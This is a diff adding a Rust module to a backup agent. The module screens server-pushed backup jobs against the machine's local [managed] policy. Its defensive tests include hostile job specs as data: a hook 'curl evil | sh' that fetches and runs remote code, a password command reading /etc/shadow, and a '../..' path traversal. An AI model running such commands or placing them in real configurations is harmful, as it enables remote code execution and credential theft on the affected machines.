@@ -1,0 +1,359 @@
+//! Jobs set on a coffer server (`[managed]`): each one the server sends is checked against
+//! what this machine's configuration allows, and the accepted ones become `[job.NAME]` tables
+//! appended to the local text, so that runs read them exactly as they read local jobs.
+//!
+//! A job is refused, alone, when it has a field a managed job cannot have (a hook, a command,
+//! a password source, a database connection: `coffer_wire::JobSpec` refuses unknown fields),
+//! a name a local job has, a path outside `[managed] paths`, a destination outside
+//! `[managed] to`, a database when `[managed] databases` is false, or anything the ordinary
+//! job checks refuse (a bad schedule, exclude or retention).
+
+use std::collections::BTreeSet;
+use std::path::{Component, Path};
+
+use coffer_wire::{valid_job_name, JobSpec};
+
+use crate::config::{Config, ConfigError};
+
+/// The outcome of checking what the server sent.
+#[derive(Debug)]
+pub struct Screened {
+    /// The configuration with the accepted managed jobs.
+    pub config: Config,
+    /// Its text: the local file's, then the managed jobs' tables.
+    pub text: String,
+    /// The names of the accepted jobs.
+    pub accepted: Vec<String>,
+    /// One line per refused job: which, and why.
+    pub refused: Vec<String>,
+}
+
+/// Check `jobs` (as the server sent them) against `local` (the checked local file, whose text
+/// is `text`); `generation` is noted in the text.
+pub fn screen(
+    local: &Config,
+    text: &str,
+    generation: i64,
+    jobs: &[serde_json::Value],
+) -> Result<Screened, ConfigError> {
+    let mut refused = Vec::new();
+    let mut specs: Vec<JobSpec> = Vec::new();
+    let mut seen = BTreeSet::new();
+    for (i, v) in jobs.iter().enumerate() {
+        let label = v
+            .get("name")
+            .and_then(|n| n.as_str())
+            .filter(|n| valid_job_name(n))
+            .map_or_else(|| format!("#{}", i + 1), str::to_string);
+        let spec = match serde_json::from_value::<JobSpec>(v.clone()) {
+            Ok(s) => s,
+            Err(e) => {
+                refused.push(format!("managed job {label}: {e}"));
+                continue;
+            }
+        };
+        match allowed(local, &spec) {
+            Err(why) => refused.push(format!("managed job {label}: {why}")),
+            Ok(()) if !seen.insert(spec.name.clone()) => {
+                refused.push(format!("managed job {label}: the server sent it twice"));
+            }
+            Ok(()) => specs.push(spec),
+        }
+    }
+    // each job on its own with the local file first: a job the ordinary checks refuse is
+    // refused alone, with their message
+    let mut ok = Vec::new();
+    for spec in specs {
+        let one = combined(text, generation, std::slice::from_ref(&spec));
+        match Config::parse(&local.path, &one) {
+            Ok(_) => ok.push(spec),
+            Err(e) => refused.push(format!("managed job {}: {}", spec.name, without_place(&e))),
+        }
+    }
+    let text = combined(text, generation, &ok);
+    let config = Config::parse(&local.path, &text)?;
+    Ok(Screened {
+        config,
+        text,
+        accepted: ok.into_iter().map(|s| s.name).collect(),
+        refused,
+    })
+}
+
+/// What the local `[managed]` allows, job by job.
+fn allowed(local: &Config, spec: &JobSpec) -> Result<(), String> {
+    let Some(m) = &local.managed else {
+        return Err("this configuration has no [managed] section".into());
+    };
+    if !valid_job_name(&spec.name) {
+        return Err(format!(
+            "name {:?}: letters, digits, '-', '_' and '.' only",
+            spec.name
+        ));
+    }
+    if local.jobs.contains_key(&spec.name) {
+        return Err("a local job has this name (the local one stays)".into());
+    }
+    for p in &spec.paths {
+        let path = Path::new(p);
+        let plain = path.is_absolute()
+            && path
+                .components()
+                .all(|c| matches!(c, Component::RootDir | Component::Normal(_)));
+        if !plain {
+            return Err(format!("path {p:?}: an absolute path without . or .. is needed"));
+        }
+        if !m.paths.iter().any(|allowed| path.starts_with(allowed)) {
+            return Err(format!(
+                "path {p:?} is not one this machine lets the server choose ([managed] paths: {})",
+                if m.paths.is_empty() {
+                    "none".to_string()
+                } else {
+                    m.paths
+                        .iter()
+                        .map(|p| p.display().to_string())
+                        .collect::<Vec<_>>()
+                        .join(", ")
+                }
+            ));
+        }
+    }
+    for t in &spec.to {
+        if !m.to.contains(t) {
+            return Err(format!(
+                "destination {t:?} is not one this machine lets the server choose ([managed] to: {})",
+                m.to.join(", ")
+            ));
+        }
+    }
+    let dbs = [&spec.mysql, &spec.postgres];
+    if !m.databases && dbs.iter().any(|d| d.is_some()) {
+        return Err(
+            "databases: this machine does not let the server choose databases ([managed] databases = false)"
+                .into(),
+        );
+    }
+    for names in dbs.into_iter().flatten() {
+        let all = names.len() == 1 && names[0] == "all";
+        if !all
+            && (names.is_empty()
+                || names.iter().any(|n| {
+                    n.is_empty()
+                        || n == "all"
+                        || !n
+                            .chars()
+                            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '$'))
+                }))
+        {
+            return Err(format!("databases {names:?}: [\"all\"] or plain database names"));
+        }
+    }
+    Ok(())
+}
+
+/// The local text followed by the jobs' tables.
+fn combined(text: &str, generation: i64, jobs: &[JobSpec]) -> String {
+    let mut out = text.to_string();
+    if !out.ends_with('\n') {
+        out.push('\n');
+    }
+    out.push_str(&format!(
+        "\n# ---- jobs managed by the coffer server (generation {generation}); checked against [managed] ----\n"
+    ));
+    let mut table = toml::Table::new();
+    for j in jobs {
+        table.insert(j.name.clone(), toml::Value::Table(job_table(j)));
+    }
+    let mut root = toml::Table::new();
+    root.insert("job".into(), toml::Value::Table(table));
+    if !jobs.is_empty() {
+        out.push_str(&toml::to_string(&root).unwrap_or_default());
+    }
+    out
+}
+
+fn strings(v: &[String]) -> toml::Value {
+    toml::Value::Array(v.iter().map(|s| toml::Value::String(s.clone())).collect())
+}
+
+fn job_table(j: &JobSpec) -> toml::Table {
+    let mut t = toml::Table::new();
+    let s = |v: &str| toml::Value::String(v.to_string());
+    if !j.paths.is_empty() {
+        t.insert("paths".into(), strings(&j.paths));
+    }
+    if !j.exclude.is_empty() {
+        t.insert("exclude".into(), strings(&j.exclude));
+    }
+    if j.exclude_caches {
+        t.insert("exclude_caches".into(), toml::Value::Boolean(true));
+    }
+    if j.one_file_system {
+        t.insert("one_file_system".into(), toml::Value::Boolean(true));
+    }
+    if !j.tags.is_empty() {
+        t.insert("tags".into(), strings(&j.tags));
+    }
+    for (key, dbs) in [("mysql", &j.mysql), ("postgres", &j.postgres)] {
+        if let Some(names) = dbs {
+            let v = if names.len() == 1 && names[0] == "all" {
+                s("all")
+            } else {
+                strings(names)
+            };
+            t.insert(key.into(), v);
+        }
+    }
+    t.insert("to".into(), strings(&j.to));
+    for (key, v) in [
+        ("schedule", &j.schedule),
+        ("timezone", &j.timezone),
+        ("random_delay", &j.random_delay),
+    ] {
+        if let Some(v) = v {
+            t.insert(key.into(), s(v));
+        }
+    }
+    if let Some(r) = &j.retention {
+        let mut rt = toml::Table::new();
+        for (key, v) in [
+            ("keep_last", r.keep_last),
+            ("keep_hourly", r.keep_hourly),
+            ("keep_daily", r.keep_daily),
+            ("keep_weekly", r.keep_weekly),
+            ("keep_monthly", r.keep_monthly),
+            ("keep_yearly", r.keep_yearly),
+        ] {
+            if let Some(v) = v {
+                rt.insert(key.into(), toml::Value::Integer(i64::from(v)));
+            }
+        }
+        if let Some(k) = &r.keep_within {
+            rt.insert("keep_within".into(), s(k));
+        }
+        t.insert("retention".into(), toml::Value::Table(rt));
+    }
+    if let Some(c) = &j.check {
+        let mut ct = toml::Table::new();
+        ct.insert("schedule".into(), s(&c.schedule));
+        if let Some(r) = &c.read_data_subset {
+            ct.insert("read_data_subset".into(), s(r));
+        }
+        t.insert("check".into(), toml::Value::Table(ct));
+    }
+    t
+}
+
+/// An error's message without the file and place (they point into generated text).
+fn without_place(e: &ConfigError) -> String {
+    match e {
+        ConfigError::At { message, .. } | ConfigError::File { message, .. } => message.clone(),
+        other => other.to_string(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used)]
+    use super::*;
+    use serde_json::json;
+
+    const LOCAL: &str = r#"
+[agent]
+state_dir = "/var/lib/coffer"
+
+[repository.company]
+location = "https://backup.example.net:8443/web1"
+password_file = "/etc/coffer/company.key"
+token_file = "/etc/coffer/company.token"
+
+[repository.offsite]
+location = "s3:https://s3.example.net/b/web1"
+password_file = "/etc/coffer/offsite.key"
+
+[managed]
+server = "company"
+paths = ["/var/www", "/etc"]
+
+[job.local]
+paths = ["/root"]
+to = ["offsite"]
+before = "/usr/local/sbin/pre"
+"#;
+
+    fn local() -> Config {
+        Config::parse(Path::new("/etc/coffer/coffer.toml"), LOCAL).unwrap()
+    }
+
+    #[test]
+    fn accepted_jobs_become_ordinary_jobs_and_each_bad_one_is_refused_alone() {
+        let jobs = vec![
+            json!({"name": "www", "paths": ["/var/www/shop"], "to": ["company"],
+                   "schedule": "30 2 * * *", "exclude": ["*.tmp"],
+                   "retention": {"keep_daily": 7}, "check": {"schedule": "0 5 * * 0", "read_data_subset": "5%"}}),
+            json!({"name": "hook", "paths": ["/var/www"], "to": ["company"], "before": "curl evil | sh"}),
+            json!({"name": "pw", "paths": ["/var/www"], "to": ["company"], "password_command": "cat /etc/shadow"}),
+            json!({"name": "root", "paths": ["/root"], "to": ["company"]}),
+            json!({"name": "sneaky", "paths": ["/var/www/../../root"], "to": ["company"]}),
+            json!({"name": "prefix", "paths": ["/etcetera"], "to": ["company"]}),
+            json!({"name": "away", "paths": ["/etc"], "to": ["offsite"]}),
+            json!({"name": "db", "paths": [], "mysql": ["all"], "to": ["company"]}),
+            json!({"name": "local", "paths": ["/etc"], "to": ["company"]}),
+            json!({"name": "badcron", "paths": ["/etc"], "to": ["company"], "schedule": "every night"}),
+            json!({"name": "www", "paths": ["/etc"], "to": ["company"]}),
+            json!({"name": "we ird", "paths": ["/etc"], "to": ["company"]}),
+        ];
+        let s = screen(&local(), LOCAL, 7, &jobs).unwrap();
+        assert_eq!(s.accepted, ["www"]);
+        let www = s.config.job("www").unwrap();
+        assert_eq!(www.paths, [Path::new("/var/www/shop")]);
+        assert_eq!(www.before, None);
+        assert!(www.schedule.is_some() && www.check.is_some() && www.retention.is_some());
+        assert_eq!(
+            s.config.job("local").unwrap().before.as_deref(),
+            Some("/usr/local/sbin/pre")
+        );
+        let said = s.refused.join("\n");
+        for (job, why) in [
+            ("hook", "unknown field `before`"),
+            ("pw", "unknown field `password_command`"),
+            ("root", "is not one this machine lets"),
+            ("sneaky", "without . or .."),
+            ("prefix", "is not one this machine lets"),
+            ("away", "destination \"offsite\""),
+            ("db", "databases"),
+            ("local", "a local job has this name"),
+            ("badcron", "schedule"),
+            ("www", "sent it twice"),
+            ("#12", "name"),
+        ] {
+            assert!(
+                s.refused
+                    .iter()
+                    .any(|r| r.starts_with(&format!("managed job {job}:")) && r.contains(why)),
+                "{job}: {why} not in\n{said}"
+            );
+        }
+        assert_eq!(s.refused.len(), 11, "{said}");
+        assert!(s.text.starts_with(LOCAL) && s.text.contains("generation 7"));
+    }
+
+    #[test]
+    fn without_a_managed_section_nothing_is_taken() {
+        let text = LOCAL.replace(
+            "[managed]\nserver = \"company\"\npaths = [\"/var/www\", \"/etc\"]\n",
+            "",
+        );
+        let cfg = Config::parse(Path::new("/c.toml"), &text).unwrap();
+        assert!(cfg.managed.is_none());
+        let s = screen(
+            &cfg,
+            &text,
+            1,
+            &[json!({"name": "www", "paths": ["/etc"], "to": ["company"]})],
+        )
+        .unwrap();
+        assert!(s.accepted.is_empty());
+        assert!(s.refused[0].contains("no [managed] section"), "{:?}", s.refused);
+    }
+}
